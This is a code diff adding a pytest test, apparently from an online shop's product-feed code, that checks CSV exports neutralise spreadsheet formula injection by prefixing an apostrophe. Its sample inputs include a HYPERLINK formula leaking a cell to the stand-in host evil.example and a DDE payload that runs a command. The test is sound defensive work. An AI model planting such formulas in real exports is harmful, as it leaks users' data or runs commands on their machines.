@@ -149,3 +149,17 @@ def test_links_of_plain_and_unicode_slugs_match_the_web_pages(publish, web):
         plain = dataclasses.replace(view, slug=slug)
         assert product_link(plain) == "http://" + product_link(plain).split("://", 1)[1]
         assert product_link(plain).endswith(product_public_url("fa", slug))
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "=1+2", "-2+3+cmd|' /C calc'!A0"],
+)
+def test_csv_feed_never_hands_a_formula_to_a_spreadsheet(publish, web, name):
+    """Text that a spreadsheet would run as a formula gets an apostrophe in front (OWASP);
+    prices and links are written unchanged."""
+    publish("A", names=dict.fromkeys(("en", "tr", "fi", "az", "fa"), name))
+    text = b"".join(feed_iter(kind="csv", channel=web, locale="en")).decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows[0]["title"] == "'" + name
+    assert rows[0]["price"] == "1234.50 EUR" and rows[0]["link"].startswith("http")
